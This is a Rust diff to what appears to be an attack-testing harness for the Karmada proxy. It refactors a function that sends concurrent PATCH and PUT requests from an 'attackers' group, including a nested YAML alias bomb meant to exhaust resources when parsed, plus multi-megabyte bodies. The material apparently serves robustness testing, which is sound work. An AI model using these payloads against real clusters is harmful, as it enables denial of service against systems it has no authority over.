@@ -1,5 +1,7 @@
 //! Attacks with bodies of changes that are sent on to a member: L4 and its kind.
 
+use std::sync::Arc;
+
 use bytes::Bytes;
 use reqwest::Method;
 
@@ -31,8 +33,10 @@ pub fn other_patches() -> Attack {
     let mut yaml = String::from("apiVersion: v1\nkind: ConfigMap\na0: &a0 [x,x,x,x,x,x,x,x,x,x]\n");
     for level in 1..9 {
         let below = vec![format!("*a{}", level - 1); 10].join(",");
-        yaml.push_str(&format!("a{level}: &a{level} [{below}]\n"));
+        yaml.extend([format!("a{level}: &a{level} [{below}]\n")]);
     }
+    let mut applied = patches(20, "application/apply-patch+yaml", yaml);
+    applied.path = Arc::new(|_| format!("{}&force=true", patched()));
     let mut put = patches(20, "application/json", chains);
     put.method = Method::PUT;
     Attack::of_requests(
@@ -40,17 +44,22 @@ pub fn other_patches() -> Attack {
         "60 merge patches, YAML patches and updates of 3 MB",
         vec![
             patches(20, "application/merge-patch+json", maps),
-            patches(20, "application/apply-patch+yaml", yaml),
+            applied,
             put,
         ],
     )
 }
 
 fn patches(at_a_time: usize, content_type: &'static str, body: String) -> Volley {
-    Volley::get(
-        Users::Group(ATTACKERS, 16),
-        at_a_time,
-        format!("{GROUP}/proxying/karmada/proxy/api/v1/namespaces/{ATTACKED}/configmaps/patched?fieldManager=attack&force=true"),
+    Volley::get(Users::Group(ATTACKERS, 16), at_a_time, patched()).sending(
+        Method::PATCH,
+        content_type,
+        Bytes::from(body),
     )
-    .sending(Method::PATCH, content_type, Bytes::from(body))
+}
+
+fn patched() -> String {
+    format!(
+        "{GROUP}/proxying/karmada/proxy/api/v1/namespaces/{ATTACKED}/configmaps/patched?fieldManager=attack"
+    )
 }
